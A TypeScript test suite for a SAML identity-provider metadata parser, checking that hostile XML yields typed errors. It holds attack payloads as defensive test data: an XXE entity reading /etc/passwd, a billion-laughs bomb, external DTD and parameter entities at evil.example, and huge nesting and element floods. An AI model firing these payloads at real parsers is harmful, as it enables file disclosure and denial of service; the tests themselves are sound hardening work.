/**
 * Untrusted input: every byte is an attacker's. Built from the real fixtures (a DOCTYPE injected, nesting
 * deepened, elements multiplied, ...). Each case must end in a typed outcome whatever the shape. Speed
 * is not asserted here (timed tests flake on a loaded machine); the shapes that used to be quadratic
 * (50,000-deep nesting took 39 s) would blow the file's 20 s per-test timeout.
 */
import { describe, expect, it, vi } from "vitest"
import { Limits, parseIdpMetadata } from "../src/index.js"
import { failed, fixture, parsed } from "./support.js"

vi.setConfig({ testTimeout: 20_000 })

const okta = fixture("okta.xml")
const onelogin = fixture("onelogin-sign-and-encrypt.xml")
const utf8 = (s: string) => new TextEncoder().encode(s).length

/** Inserts `content` right after the IDPSSODescriptor start tag of okta.xml. */
const inIdp = (content: string) => okta.replace(/(<md:IDPSSODescriptor[^>]*>)/, `$1${content}`)

describe("DOCTYPE and entities", () => {
  it("an external entity (XXE) is refused as a DOCTYPE, before anything is resolved", () => {
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE md:EntityDescriptor [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${okta.replace("http://www.okta.com/", "&xxe;")}`
    const e = failed(parseIdpMetadata(xxe), "DoctypeForbidden")
    expect(e.message).toContain("DOCTYPE")
  })

  it("billion laughs is refused without expanding", () => {
    const levels = Array.from(
      { length: 10 },
      (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`
    ).join("\n")
    const bomb = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 "lol">\n${levels}\n]>\n${okta.replace('exkppsa1qwuFV4D7z0h7"', '&lol10;"')}`
    const result = parseIdpMetadata(bomb)
    failed(result, "DoctypeForbidden")
  })

  it("a bare DOCTYPE, one with a public identifier, and a parameter entity are all refused", () => {
    failed(parseIdpMetadata(`<!DOCTYPE x>${okta}`), "DoctypeForbidden")
    failed(
      parseIdpMetadata(`<!DOCTYPE x PUBLIC "-//X//EN" "http://evil.example/x.dtd">${okta}`),
      "DoctypeForbidden"
    )
    failed(
      parseIdpMetadata(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>${okta}`),
      "DoctypeForbidden"
    )
  })

  it("an ENTITY declaration or an undefined entity outside a DOCTYPE is not XML", () => {
    failed(parseIdpMetadata(inIdp('<!ENTITY e "x">')), "MalformedXml")
    failed(parseIdpMetadata(okta.replace("http://www.okta.com/", "&xxe;")), "MalformedXml")
    // The five predefined entities and character references are XML, and are decoded.
    const amp = okta.replace(/\/sso\/saml"/g, '/sso/saml?a=1&amp;b=&#x32;"')
    expect(parsed(parseIdpMetadata(amp)).loginUrl).toMatch(/\/sso\/saml\?a=1&b=2$/)
  })
})

describe("not XML", () => {
  const cases: Array<[string, string]> = [
    ["empty", ""],
    ["whitespace", " \n\t "],
    ["plain text", "this is not metadata"],
    ["JSON", '{"idp_saml_metadata": "<xml/>"}'],
    ["truncated", okta.slice(0, okta.length / 2)],
    ["mismatched end tag", okta.replace("</md:KeyDescriptor>", "</md:KeyDescriptors>")],
    ["two roots", okta + okta],
    ["text after the root", `${okta}trailing`],
    ["unbound prefix", okta.replace("<md:NameIDFormat>", "<foo:NameIDFormat>")],
    ["duplicate attribute", okta.replace('use="signing"', 'use="signing" use="encryption"')],
    [
      "duplicate attribute through two prefixes of one namespace",
      okta.replace('use="signing"', 'xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="2"')
    ],
    ["unquoted attribute", okta.replace('use="signing"', "use=signing")],
    ["NUL character", okta.replace("<md:NameIDFormat>", "<md:NameIDFormat>\u0000")],
    ["XML declaration not first", `<!-- c -->${onelogin}`]
  ]
  for (const [name, xml] of cases) {
    it(name, () => {
      failed(parseIdpMetadata(xml), "MalformedXml")
    })
  }

  it("a value that is not a string is refused, not thrown", () => {
    for (const value of [undefined, null, 42, {}, new Uint8Array(3)]) {
      failed(parseIdpMetadata(value as unknown as string), "MalformedXml")
    }
  })

  it("a root that is not metadata stops the parse at once, quoting only a short prefix of its name", () => {
    const name = "A".repeat(100_000)
    const e = failed(
      parseIdpMetadata(`<${name} xmlns="urn:x">${"<b/>".repeat(1000)}</${name}>`),
      "NoEntityDescriptor"
    )
    expect(e.message).not.toContain("A".repeat(100))
    failed(
      parseIdpMetadata('<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'),
      "NoEntityDescriptor"
    )
    failed(parseIdpMetadata("<EntityDescriptor/>"), "NoEntityDescriptor")
  })
})

describe("input size", () => {
  /** okta.xml padded by a comment of `unit` repeated to exactly `bytes` bytes of UTF-8 (unit must fit). */
  const padded = (bytes: number, unit: string) => {
    const room = bytes - utf8(okta) - utf8("<!---->")
    const n = Math.floor(room / utf8(unit))
    const rest = room - n * utf8(unit)
    const xml = `${okta}<!--${unit.repeat(n)}${"x".repeat(rest)}-->`
    expect(utf8(xml)).toBe(bytes)
    return xml
  }
  const MiB = Limits.defaultMaxInputBytes

  it("1 MiB of UTF-8 is accepted, one byte more is InputTooLarge", () => {
    expect(parsed(parseIdpMetadata(padded(MiB, "x"))).entityId).toBe(
      "http://www.okta.com/exkppsa1qwuFV4D7z0h7"
    )
    const e = failed(parseIdpMetadata(padded(MiB + 1, "x")), "InputTooLarge")
    expect(e.message).toContain(String(MiB))
  })

  it("astral characters count 4 bytes (2 UTF-16 units), so the cap is in bytes, not units", () => {
    const exact = padded(MiB, "\u{1F600}")
    expect(exact.length).toBeLessThan(MiB * 0.6)
    parsed(parseIdpMetadata(exact))
    failed(parseIdpMetadata(padded(MiB + 1, "\u{1F600}")), "InputTooLarge")
    // Three-byte characters and lone surrogates (encoded as U+FFFD) count 3.
    failed(parseIdpMetadata(padded(MiB + 1, "\u20ac")), "InputTooLarge")
    const lone = `${okta}<!--${"\ud800".repeat(Math.ceil((MiB - utf8(okta)) / 3))}-->`
    failed(parseIdpMetadata(lone), "InputTooLarge")
  })

  it("maxInputBytes changes the cap; a bad value is InvalidOptions", () => {
    failed(parseIdpMetadata(okta, { maxInputBytes: 1000 }), "InputTooLarge")
    parsed(parseIdpMetadata(okta, { maxInputBytes: utf8(okta) }))
    parsed(parseIdpMetadata(padded(3 * MiB, "x"), { maxInputBytes: 4 * MiB }))
    for (const maxInputBytes of [-1, 1.5, Number.NaN, Number.POSITIVE_INFINITY]) {
      failed(parseIdpMetadata(okta, { maxInputBytes }), "InvalidOptions")
    }
  })

  it("a 100 MB input is refused without being read", () => {
    const huge = "x".repeat(100_000_000)
    const result = parseIdpMetadata(huge)
    failed(result, "InputTooLarge")
  })
})

describe("nesting, element count and other caps", () => {
  it("50,000-deep nesting is TooDeep at once: no stack overflow, no quadratic work", () => {
    const deep = inIdp(`${"<x>".repeat(50_000)}${"</x>".repeat(50_000)}`)
    expect(utf8(deep)).toBeLessThan(Limits.defaultMaxInputBytes)
    const result = parseIdpMetadata(deep)
    expect(failed(result, "TooDeep").limit).toBe("maxDepth")
    // 500,000 levels of metadata elements in 16 MB, under a raised size cap: the same, as fast.
    const deeper = inIdp(`${"<md:Extensions>".repeat(500_000)}${"</md:Extensions>".repeat(500_000)}`)
    const big = { result: parseIdpMetadata(deeper, { maxInputBytes: 32 * 1024 * 1024 }) }
    failed(big.result, "TooDeep")
    // Unclosed, and with a namespace declaration on every level (the parser's prefix look-up walks them).
    const unclosed = `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata">${'<a xmlns:p="urn:p">'.repeat(50_000)}`
    failed(parseIdpMetadata(unclosed), "TooDeep")
  })

  it("the depth cap is exact: the root counts as level 1", () => {
    const nest = (levels: number) => inIdp(`${"<x>".repeat(levels)}${"</x>".repeat(levels)}`)
    // The IDPSSODescriptor's children are at level 3.
    parsed(parseIdpMetadata(nest(Limits.maxDepth - 2)))
    expect(failed(parseIdpMetadata(nest(Limits.maxDepth - 1)), "TooDeep").message).toContain(
      String(Limits.maxDepth)
    )
  })

  it("100,000 sibling elements (under the size cap) are LimitExceeded, quickly; 45,000 parse", () => {
    const many = inIdp("<x/>".repeat(100_000))
    expect(utf8(many)).toBeLessThan(Limits.defaultMaxInputBytes)
    const result = parseIdpMetadata(many)
    expect(failed(result, "LimitExceeded").limit).toBe("maxElements")
    const fewer = { result: parseIdpMetadata(inIdp("<x/>".repeat(45_000))) }
    parsed(fewer.result)
  })

  it("an attribute longer than the cap is LimitExceeded, whichever element carries it", () => {
    const base = parsed(parseIdpMetadata(okta)).loginUrl.length + 1
    const long = (n: number) => okta.replace(/\/sso\/saml"/g, `/sso/saml?${"a".repeat(n - base)}"`)
    expect(parsed(parseIdpMetadata(long(Limits.maxAttributeLength))).loginUrl).toHaveLength(
      Limits.maxAttributeLength
    )
    expect(failed(parseIdpMetadata(long(Limits.maxAttributeLength + 1)), "LimitExceeded").limit).toBe(
      "maxAttributeLength"
    )
    failed(parseIdpMetadata(inIdp(`<x y="${"z".repeat(500_000)}"/>`)), "LimitExceeded")
  })

  it("more KeyDescriptors, certificates or SSO services than the caps are LimitExceeded", () => {
    const key = okta.match(/<md:KeyDescriptor[\s\S]*?<\/md:KeyDescriptor>/)![0]
    const sso = okta.match(/<md:SingleSignOnService[^>]*>/)![0]
    const certificate = okta.match(/<ds:X509Certificate>[\s\S]*?<\/ds:X509Certificate>/)![0]
    expect(
      parsed(parseIdpMetadata(inIdp(key.repeat(Limits.maxKeyDescriptors - 1)))).signingCertificates
    ).toHaveLength(1)
    expect(failed(parseIdpMetadata(inIdp(key.repeat(Limits.maxKeyDescriptors))), "LimitExceeded").limit).toBe(
      "maxKeyDescriptors"
    )
    expect(
      failed(parseIdpMetadata(inIdp(sso.repeat(Limits.maxSingleSignOnServices))), "LimitExceeded").limit
    ).toBe("maxSingleSignOnServices")
    const chain = okta.replace(certificate, certificate.repeat(Limits.maxCertificates + 1))
    expect(failed(parseIdpMetadata(chain), "LimitExceeded").limit).toBe("maxCertificates")
  })

  it("wide shapes stay linear: 100,000 attributes on one element, a 500,000-character name, 200,000 comments", () => {
    const shapes = [
      inIdp(`<x ${Array.from({ length: 100_000 }, (_, i) => `a${i}=""`).join(" ")}/>`),
      inIdp(`<${"n".repeat(500_000)}/>`),
      inIdp("<!---->".repeat(140_000)),
      inIdp(`<?pi ${"x".repeat(900_000)}?>`),
      inIdp(`<x>${"&amp;".repeat(200_000)}</x>`)
    ]
    for (const xml of shapes) {
      expect(utf8(xml)).toBeLessThanOrEqual(Limits.defaultMaxInputBytes)
      const result = parseIdpMetadata(xml)
      expect(
        result._tag === "Parsed" || result.error.code === "LimitExceeded",
        JSON.stringify(result).slice(0, 200)
      ).toBe(true)
    }
  })
})

describe("certificate text", () => {
  const [b64] = okta.match(/(?<=<ds:X509Certificate>)[^<]*/)!
  const withCertificate = (text: string) => okta.replace(b64!, text)

  it("a character outside base64 is InvalidBase64, naming the KeyDescriptor and offset but not the text", () => {
    const e = failed(
      parseIdpMetadata(withCertificate(`${b64!.slice(0, 30)}!${b64!.slice(31)}`)),
      "InvalidBase64"
    )
    expect(e.message).toContain("KeyDescriptor 1 (signing), certificate 1")
    expect(e.message).toContain('"!"')
    expect(e.message.length).toBeLessThan(200)
  })

  it("empty, truncated, URL-safe, PEM-armoured or badly padded text is InvalidBase64", () => {
    const text = b64!.replace(/\s+/g, "")
    for (const bad of [
      "",
      "   \n  ",
      `${text}A`,
      text.replace(/\+/g, "-").replace(/\//g, "_"),
      `-----BEGIN CERTIFICATE-----\n${text}\n-----END CERTIFICATE-----`,
      `${text.slice(0, 8)}=${text.slice(8)}`,
      `${text}===`
    ]) {
      failed(parseIdpMetadata(withCertificate(bad)), "InvalidBase64")
    }
  })

  it("whitespace of every XML kind inside the base64 is tolerated", () => {
    const text = b64!.replace(/\s+/g, "")
    const spaced = text.replace(/(.{7})/g, "$1 \t\r\n")
    expect(parsed(parseIdpMetadata(withCertificate(spaced)))).toEqual(parsed(parseIdpMetadata(okta)))
  })
})

describe("every outcome is a value", () => {
  it("random mutations of a real file never throw and always give a typed outcome", () => {
    let seed = 12345
    const random = () => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff
      return seed / 0x7fffffff
    }
    const alphabet = [
      "<",
      ">",
      '"',
      "'",
      "&",
      ";",
      ":",
      "/",
      "=",
      "!",
      "?",
      "-",
      "[",
      "]",
      "x",
      " ",
      "\u0000",
      "\ud800"
    ]
    for (let round = 0; round < 300; round++) {
      let xml = okta
      for (let k = 0; k < 1 + Math.floor(random() * 4); k++) {
        const at = Math.floor(random() * xml.length)
        const choice = random()
        if (choice < 0.4)
          xml = xml.slice(0, at) + alphabet[Math.floor(random() * alphabet.length)] + xml.slice(at)
        else if (choice < 0.7) xml = xml.slice(0, at) + xml.slice(at + 1 + Math.floor(random() * 20))
        else
          xml =
            xml.slice(0, at) +
            xml.slice(Math.floor(random() * xml.length), Math.floor(random() * xml.length)) +
            xml.slice(at)
      }
      const outcome = parseIdpMetadata(xml)
      if (outcome._tag === "Failed") {
        expect(outcome.error.code).not.toBe("InternalError")
        expect(utf8(outcome.error.message)).toBeLessThan(1000)
      }
    }
  })
})
